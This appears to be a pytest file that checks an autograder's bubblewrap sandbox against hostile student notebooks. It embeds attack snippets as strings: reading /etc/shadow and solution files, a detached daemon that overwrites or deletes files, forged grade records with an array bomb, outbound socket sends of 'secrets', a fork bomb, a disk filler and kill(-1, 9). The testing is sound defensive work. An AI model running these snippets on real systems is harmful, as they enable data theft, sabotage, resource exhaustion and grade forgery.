@@ -1,0 +1,489 @@
+"""Hostile submissions: graded in the sandbox, none gains anything, harms anyone, or leaves anything behind.
+
+One class (honest students and attackers) is graded once with ``grade --jobs 2`` in a
+subprocess; each test then checks one attacker, or one promise for everyone. The tests skip
+where bubblewrap cannot run, unless ``CNN_COURSE_REQUIRE_SANDBOX=1`` (CI) makes that a failure.
+"""
+from __future__ import annotations
+
+import csv
+import ctypes
+import hashlib
+import os
+import signal
+import socket
+import subprocess
+import sys
+import tempfile
+import textwrap
+import time
+from pathlib import Path
+
+import nbformat
+import pytest
+
+from grader import sandbox
+from grader.autograde import cached_template
+
+ROOT = Path(__file__).resolve().parent.parent
+A = "02_padding_stride"
+REQUIRED = os.environ.get("CNN_COURSE_REQUIRE_SANDBOX") == "1"
+pytestmark = [pytest.mark.slow,
+              pytest.mark.skipif(bool(sandbox.problem()) and not REQUIRED,
+                                 reason=f"no sandbox here: {sandbox.problem()}")]
+
+
+def test_the_sandbox_can_be_made_here():
+    assert sandbox.problem() is None
+
+
+# --- the class -----------------------------------------------------------------------------------
+
+
+@pytest.fixture(scope="module", autouse=True)
+def _built(built_course):
+    import tests.test_pipeline as pipeline
+    pipeline.BUILT = built_course  # its helpers (solved, student) read the built course from there
+
+
+def notebook(kind: str, before_tests: str = "", cells: dict[str, str] | None = None) -> nbformat.NotebookNode:
+    """``kind`` "blank" (the student version) or "solved"; ``before_tests`` a plain cell after the
+    imports; ``cells`` replaces solution cells by grade_id."""
+    from tests.test_pipeline import solved, student
+
+    nb = solved(A) if kind == "solved" else nbformat.read(student(A), as_version=4)
+    for cell in nb.cells:
+        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
+        if cells and grade_id in cells:
+            cell.source = textwrap.dedent(cells[grade_id])
+    if before_tests:
+        setup = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "setup")
+        nb.cells.insert(setup + 1, nbformat.v4.new_code_cell(textwrap.dedent(before_tests)))
+    return nb
+
+
+# Paths an attacker would try; baked into the submissions as literals (they know the layout).
+def _targets(out: Path, klass: Path) -> list[str]:
+    home = Path.home()
+    return [str(p) for p in (
+        ROOT / "grader" / "reference.py", ROOT / "grader" / "mistakes.py", ROOT / "solutions" / A / f"{A}.py",
+        ROOT / "cnn_course" / "checks.py", ROOT / "nbgrader_config.py", ROOT / "grader" / "hidden.py",
+        out / "gradebook.db", out / "grades.csv", out / "feedback" / "alice" / A / f"{A}.html",
+        out / "submitted" / "alice" / A / f"{A}.ipynb", out / ".shards" / f"alice--{A}",
+        klass / f"alice__{A}.ipynb", home / ".cache" / "cnn-course" / "gradebooks", home / ".bashrc", "/etc/shadow",
+        home / ".cache")]
+
+
+THIEF = """
+import os, sys, pathlib, importlib, cnn_course
+targets = [t for t in TARGETS if "/cnn_course/" not in t]  # the student package is readable by design
+here = pathlib.Path(cnn_course.__file__).resolve().parents[1]
+targets += [str(here / "solutions"), str(here / "grader" / "reference.py"), str(here / "grader")]
+for path in targets:
+    p = pathlib.Path(path)
+    try:
+        text = p.read_bytes()[:50] if p.is_file() else sorted(os.listdir(p))[:5]
+        print("LE" + "AK", path, text)
+    except Exception as error:
+        print("refused", path, type(error).__name__)
+for name in ("grader.reference", "grader.mistakes", "grader.verdict", "grader.catalogue"):
+    try:
+        importlib.import_module(name)
+        print("LE" + "AK import", name)
+    except Exception as error:
+        print("refused import", name, type(error).__name__)
+try:
+    from grader.reference import conv_output_size, pad2d, same_padding, receptive_field
+except Exception:
+    pass
+for root, dirs, files in os.walk("/"):
+    if root.startswith(("/proc", "/sys", "/dev", "/usr", str(pathlib.Path(sys.prefix)), sys.base_prefix)):
+        dirs[:] = []
+        continue
+    for name in files:
+        if name.endswith(("reference.py", "mistakes.py", ".db")) or name.startswith("02_padding_stride.py"):
+            print("LE" + "AK found", os.path.join(root, name))
+print("env", sorted(os.environ))
+"""
+
+SABOTEUR = """
+import os, time, pathlib
+targets = TARGETS
+def daemon():
+    if os.fork():
+        return
+    os.setsid()
+    if os.fork():
+        os._exit(0)
+    for _ in range(50):  # 50 detached children that should outlive grading
+        if os.fork() == 0:
+            time.sleep(600)
+            os._exit(0)
+    end = time.time() + 40
+    while time.time() < end:  # during grading, and after grade has exited
+        for path in targets:
+            p = pathlib.Path(path)
+            try:
+                if p.is_dir():
+                    (p / "planted.txt").write_text("owned")
+                else:
+                    p.write_text("owned")
+            except Exception:
+                pass
+            try:
+                os.remove(path)
+            except Exception:
+                pass
+        time.sleep(0.2)
+    os._exit(0)
+daemon()
+time.sleep(1)
+"""
+
+FORGER = """
+import cnn_course.record as record
+from IPython.display import display
+real_emit = record.emit
+def emit(case_set_id, function, outcomes):
+    if "conv_output_size" in case_set_id:  # claim success without the answers
+        display({record.RECORD_MIME: {"id": case_set_id, "function": function, "outcomes": "all correct"}}, raw=True)
+    elif case_set_id == "test_pad2d_hidden":  # the real record, and a second one
+        real_emit(case_set_id, function, outcomes)
+        real_emit(case_set_id, function, outcomes)
+    elif case_set_id == "test_same_padding_hidden":  # a forged array header: 10**11 floats in 24 bytes
+        import base64, io, numpy as np
+        buffer = io.BytesIO()
+        np.save(buffer, np.zeros(3))
+        raw = buffer.getvalue().replace(b"(3,)", b"(100000000000,)")
+        bomb = {"value": {"__ndarray__": base64.b64encode(raw).decode()}}
+        real_emit(case_set_id, function, [bomb] * len(outcomes))
+    else:
+        real_emit(case_set_id, function, outcomes)
+record.emit = emit
+"""
+
+NETWORK = """
+import socket
+for address in [("127.0.0.1", PORT), ("8.8.8.8", 53), ("1.1.1.1", 443)]:
+    try:
+        socket.create_connection(address, timeout=2).sendall(b"secrets")
+        print("LE" + "AK connected", address)
+    except OSError as error:
+        print("refused", address, error)
+"""
+
+FILLER = """
+import os
+block = b"x" * (1 << 20)
+for folder in ("/tmp", ".", "/dev/shm"):
+    written = 0
+    try:
+        with open(os.path.join(folder, "fill.bin"), "wb") as handle:
+            while written < (4 << 30):
+                handle.write(block)
+                written += 1 << 20
+    except OSError as error:
+        print(folder, "full after", written >> 20, "MiB:", error)
+    os.remove(os.path.join(folder, "fill.bin"))
+"""
+
+FORKER = """
+import os, time
+count = 0
+try:
+    for _ in range(5000):
+        if os.fork() == 0:
+            time.sleep(600)
+            os._exit(0)
+        count += 1
+except OSError as error:
+    print("stopped after", count, "processes:", error)
+"""
+
+HANG = """
+def receptive_field(layers):
+    while True:
+        pass
+"""
+
+HOSTILE = {  # student: (base, plain cell before the tests, replaced solution cells)
+    "thief": ("blank", THIEF, {}),
+    "thief2": ("blank", "", {"conv_output_size": "from grader.reference import conv_output_size\n",
+                             "pad2d": "exec(open(__import__('cnn_course').__file__.rsplit('/', 2)[0] + "
+                                      "'/solutions/02_padding_stride/02_padding_stride.py').read())\n"}),
+    "saboteur": ("blank", SABOTEUR, {}),
+    "forger": ("solved", FORGER, {}),
+    "killer": ("solved", "import os\nos.kill(os.getppid(), 9)\nos.kill(-1, 9)\n", {}),
+    "network": ("solved", NETWORK, {}),
+    "hog": ("solved", "import numpy as np\nhog = np.ones(400_000_000)\n", {}),
+    "forker": ("solved", FORKER, {}),
+    "filler": ("solved", FILLER, {}),
+    "hang": ("solved", "", {"receptive_field": HANG}),
+}
+
+
+def _tree_hashes(folder: Path) -> dict[str, str]:
+    """sha256 of every file under ``folder``, skipping the venv, git and the caches Python and pytest write."""
+    hashes = {}
+    for path in sorted(folder.rglob("*")) if folder.exists() else []:
+        parts = set(path.parts)
+        if path.is_file() and not parts & {".venv", ".git", "__pycache__", ".pytest_cache", ".hypothesis"}:
+            hashes[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
+    return hashes
+
+
+def _leftovers() -> set[str]:
+    """Sandbox work folders, IPC folders and cgroups that exist now."""
+    found = {str(p) for folder in (Path(tempfile.gettempdir()), Path("/dev/shm")) if folder.is_dir()
+             for prefix in (sandbox.PREFIX, sandbox.IPC_PREFIX) for p in folder.glob(prefix + "*")}
+    for controller in ("memory", "pids"):
+        own = sandbox._own_cgroup(controller)
+        if own is not None:
+            found |= {str(p) for p in (Path("/sys/fs/cgroup") / controller / own.lstrip("/")).glob(
+                sandbox.CGROUP_PREFIX + "*")}
+    return found
+
+
+def _descendants_and_orphans(pid: int) -> list[int]:
+    """Processes whose parent is ``pid``: with pid a child subreaper, every orphan that escaped lands here."""
+    found = []
+    for stat in Path("/proc").glob("[0-9]*/stat"):
+        try:
+            fields = stat.read_text().rsplit(")", 1)[1].split()
+        except OSError:
+            continue
+        if int(fields[1]) == pid and fields[0] != "Z":
+            found.append(int(stat.parent.name))
+    return found
+
+
+@pytest.fixture(scope="module")
+def graded_class(tmp_path_factory):
+    """Grade the class once, in a subprocess; return what the tests need to look at."""
+    ctypes.CDLL(None).prctl(36, 1, 0, 0, 0)  # PR_SET_CHILD_SUBREAPER: escaped orphans become our children
+    work = tmp_path_factory.mktemp("hostile")
+    klass, out = work / "class", work / "course"
+    klass.mkdir()
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen()
+    listener.setblocking(False)
+    targets = _targets(out, klass)
+    honest = {"alice": notebook("solved"), "bob": notebook("blank"),
+              "carol": notebook("solved", cells={"pad2d": "def pad2d(x, pad, value=0.0):\n    return x.copy()\n"})}
+    for name, (kind, plain, cells) in HOSTILE.items():
+        code = plain.replace("TARGETS", repr(targets)).replace("PORT", str(listener.getsockname()[1]))
+        honest[name] = notebook(kind, code, cells)
+    for name, nb in honest.items():
+        nbformat.write(nb, klass / f"{name}__{A}.ipynb")
+    template = cached_template(A)
+    before = _tree_hashes(ROOT)
+    leftovers_before = _leftovers()
+    env = dict(os.environ, CNN_COURSE_KERNEL_MEMORY="768M", CNN_COURSE_KERNEL_SCRATCH="64M")
+    run = subprocess.run([sys.executable, "-m", "grader", "grade", str(klass), "--out", str(out), "--jobs", "2",
+                          "--timeout", "10"], capture_output=True, text=True, env=env, timeout=600)
+    after_exit = _tree_hashes(out)
+    time.sleep(3)  # a daemon that waits for grade to exit would strike now
+    try:
+        listener.accept()
+        connected = True
+    except BlockingIOError:
+        connected = False
+    with (out / "grades.csv").open() as handle:
+        table = {row["student_id"]: row for row in csv.DictReader(handle)}
+    return dict(run=run, out=out, klass=klass, table=table, before=before, after=_tree_hashes(ROOT),
+                template_intact=hashlib.sha256(template.read_bytes()).hexdigest()
+                == Path(f"{template}.sha256").read_text().strip(),
+                out_after_exit=after_exit, out_later=_tree_hashes(out), connected=connected,
+                leftovers=_leftovers() - leftovers_before, orphans=_descendants_and_orphans(os.getpid()))
+
+
+def total(row) -> float:
+    return float(row["total"] or 0)
+
+
+def autograded_text(out: Path, student: str) -> str:
+    path = out / "autograded" / student / A / f"{A}.ipynb"
+    return path.read_text() if path.exists() else ""
+
+
+def feedback_text(out: Path, student: str) -> str:
+    path = out / "feedback" / student / A / f"{A}.html"
+    return path.read_text() if path.exists() else ""
+
+
+def test_every_student_has_a_row_and_honest_ones_are_graded_right(graded_class):
+    table, run = graded_class["table"], graded_class["run"]
+    assert set(table) == {"alice", "bob", "carol", *HOSTILE}, run.stdout + run.stderr
+    assert run.returncode == 1  # some (the hog, the killer) could not be graded: said by the exit code
+    assert total(table["alice"]) == float(table["alice"]["max_total"]) == 20
+    assert total(table["bob"]) == 0
+    assert total(table["carol"]) == 15 and float(table["carol"][f"{A}/test_pad2d_hidden"]) == 0
+    for name, row in table.items():
+        assert row["status"] == "graded" or row["status"].startswith("NOT GRADED: "), (name, row["status"])
+
+
+def test_answers_cannot_be_imported_or_read_from_disk(graded_class):
+    table, out = graded_class["table"], graded_class["out"]
+    for name in ("thief", "thief2"):
+        assert table[name]["status"] == "graded" and total(table[name]) == 0
+    text = autograded_text(out, "thief")
+    assert "refused import grader.reference" in text and "refused" in text
+    assert "LEAK" not in text and "LEAK" not in feedback_text(out, "thief")
+    env_line = next(line for line in text.splitlines() if "env [" in line)
+    assert "AWS" not in env_line and "CNN_COURSE_KERNEL" not in env_line  # the grader's environment stays out
+
+
+def test_forged_and_malformed_records_score_zero_and_the_rest_is_graded(graded_class):
+    row = graded_class["table"]["forger"]
+    assert row["status"] == "graded"
+    for test in ("test_conv_output_size_visible", "test_conv_output_size_hidden", "test_pad2d_hidden",
+                 "test_same_padding_hidden"):
+        assert float(row[f"{A}/{test}"]) == 0, test
+    for test in ("test_pad2d_visible", "test_same_padding_visible", "test_receptive_field_visible",
+                 "test_receptive_field_hidden"):
+        assert float(row[f"{A}/{test}"]) > 0, test
+    assert "malformed" in feedback_text(graded_class["out"], "forger")
+
+
+def test_nothing_outside_scratch_changes_during_or_after_grading(graded_class):
+    before, after = graded_class["before"], graded_class["after"]
+    assert {p for p in set(before) | set(after) if before.get(p) != after.get(p)} == set()
+    assert graded_class["template_intact"]  # the template gradebook in ~/.cache
+    assert graded_class["out_after_exit"] == graded_class["out_later"]  # nothing struck after grade exited
+    assert not any("planted" in p for p in graded_class["out_later"])
+    assert total(graded_class["table"]["saboteur"]) == 0
+
+
+def test_no_network(graded_class):
+    assert not graded_class["connected"]
+    assert "LEAK" not in autograded_text(graded_class["out"], "network")
+    assert total(graded_class["table"]["network"]) == 20  # honest code still works in the sandbox
+
+
+def test_no_process_or_temporary_folder_is_left(graded_class):
+    assert graded_class["orphans"] == []
+    assert graded_class["leftovers"] == set()
+    assert not (graded_class["out"] / ".shards").exists()
+
+
+def test_killing_the_parent_reaches_nothing_outside_the_sandbox(graded_class):
+    # os.kill(os.getppid(), 9) and os.kill(-1, 9) only reach the sandbox's own PID namespace, where
+    # the parent is its init: the kernel lives on, the killer is graded on its (correct) code.
+    row = graded_class["table"]["killer"]
+    assert row["status"] == "graded" and total(row) == 20
+
+
+def test_memory_bomb_is_stopped_by_the_limit(graded_class):
+    row = graded_class["table"]["hog"]
+    assert row["status"].startswith("NOT GRADED") and "kernel died" in row["status"]
+
+
+def test_fork_bomb_and_disk_filling_are_contained(graded_class):
+    assert graded_class["table"]["filler"]["status"] == "graded"
+    assert total(graded_class["table"]["filler"]) == 20
+    text = autograded_text(graded_class["out"], "filler")
+    assert "full after" in text  # the scratch space ran out, not the machine's disk
+    assert graded_class["table"]["forker"]["status"] in ("graded",) or "kernel died" in \
+        graded_class["table"]["forker"]["status"]
+
+
+def test_a_hanging_function_scores_zero_for_itself_only(graded_class):
+    row = graded_class["table"]["hang"]
+    assert row["status"] == "graded"
+    assert float(row[f"{A}/test_receptive_field_hidden"]) == float(row[f"{A}/test_receptive_field_visible"]) == 0
+    assert total(row) == 15
+
+
+# --- units: the pieces the class run relies on -----------------------------------------------------
+
+
+def test_kernel_side_files_are_only_what_hidden_tests_import(tmp_path):
+    names = {str(p.relative_to(ROOT / "grader")) for p in sandbox.kernel_side_files(ROOT / "grader")}
+    assert {"__init__.py", "hidden.py", "cases.py"} <= names
+    assert not names & {"reference.py", "mistakes.py", "verdict.py", "catalogue.py", "batch.py"}
+    fake = tmp_path / "grader"
+    for name in ("__init__.py", "hidden.py", "cases.py", "reference.py", "cases_01_x.py", "notebooks/__init__.py",
+                 "notebooks/nb01_x/__init__.py", "notebooks/nb01_x/cases.py", "notebooks/nb01_x/reference.py",
+                 "notebooks/nb01_x/mistakes.py", "notebooks/nb01_x/catalogue.py"):
+        (fake / name).parent.mkdir(parents=True, exist_ok=True)
+        (fake / name).write_text("")
+    assert [str(p.relative_to(fake)) for p in sandbox.kernel_side_files(fake)] == [
+        "__init__.py", "hidden.py", "cases.py", "cases_01_x.py", "notebooks/__init__.py",
+        "notebooks/nb01_x/__init__.py", "notebooks/nb01_x/cases.py"]
+
+
+def test_after_one_timeout_later_cells_get_a_short_one_and_the_wall_caps_all():
+    from grader.execute import SandboxedExecute
+
+    step = SandboxedExecute(timeout=60, wall=100, after_timeout=5)
+    step._deadline = time.monotonic() + 100
+    assert step._get_timeout(None) == 60
+    step._timed_out = True
+    assert step._get_timeout(None) == 5
+    step._deadline = time.monotonic() + 2.5
+    assert step._get_timeout(None) == 2
+    step._deadline = time.monotonic() - 10
+    assert step._get_timeout(None) == 1  # past the wall: every later cell is stopped at once
+
+
+def test_a_changed_template_gradebook_is_remade(tmp_path, monkeypatch):
+    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
+    from nbgrader.api import Gradebook
+
+    path = cached_template(A)
+    tampered = path.read_bytes()[:-100] + b"\0" * 100
+    path.write_bytes(tampered)
+    remade = cached_template(A)
+    assert remade.read_bytes() != tampered
+    assert hashlib.sha256(remade.read_bytes()).hexdigest() == Path(f"{remade}.sha256").read_text().strip()
+    with Gradebook(f"sqlite:///{remade}") as gb:
+        assert gb.find_assignment(A).max_score == 20
+
+
+def test_grade_refuses_without_a_sandbox_unless_told(tmp_path, monkeypatch, capsys):
+    from grader.cli import main
+
+    monkeypatch.setattr(sandbox, "_PROBLEM", ["bubblewrap is not installed"])
+    assert main(["grade", str(tmp_path), "--out", str(tmp_path / "o")]) == 2
+    err = capsys.readouterr().err.strip().splitlines()
+    assert len(err) == 1 and "bubblewrap is not installed" in err[0] and "--no-sandbox" in err[0]
+
+
+def test_a_dead_worker_costs_only_its_submission_and_killing_grade_leaves_nothing(tmp_path):
+    ctypes.CDLL(None).prctl(36, 1, 0, 0, 0)  # PR_SET_CHILD_SUBREAPER
+    klass, out = tmp_path / "class", tmp_path / "course"
+    klass.mkdir()
+    for name in ("ann", "ben", "cat", "dan", "eve", "fay"):
+        nbformat.write(notebook("solved"), klass / f"{name}__{A}.ipynb")
+    leftovers = _leftovers()
+    grade = subprocess.Popen([sys.executable, "-m", "grader", "grade", str(klass), "--out", str(out), "--jobs", "2"],
+                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+
+    def workers():
+        return [p for p in _descendants_and_orphans(grade.pid) if b"worker_main" in Path(f"/proc/{p}/cmdline").read_bytes()]
+
+    def graded():
+        try:
+            with (out / "grades.csv").open() as handle:
+                return {row["student_id"]: row["status"] for row in csv.DictReader(handle)}
+        except OSError:
+            return {}
+
+    deadline = time.monotonic() + 120
+    while not any(_descendants_and_orphans(w) for w in workers()) and time.monotonic() < deadline:
+        time.sleep(0.2)  # until a worker is grading (it has started a kernel)
+    victim = next(w for w in workers() if _descendants_and_orphans(w))
+    os.kill(victim, signal.SIGKILL)
+    while len(graded()) < 3 and time.monotonic() < deadline:
+        time.sleep(0.2)
+    statuses = graded()
+    assert any("grading process died" in s for s in statuses.values()), statuses
+    assert sum(s == "graded" for s in statuses.values()) >= 1
+    os.kill(grade.pid, signal.SIGKILL)  # the instructor's process dies: workers and kernels follow
+    grade.wait()
+    time.sleep(5)
+    assert _descendants_and_orphans(os.getpid()) == []
+    assert _leftovers() - leftovers == set()
+    assert [p.name for p in (out / ".shards").iterdir()] == [] if (out / ".shards").exists() else True
+    assert set(graded()) >= set(statuses)  # every student finished before the kill is kept
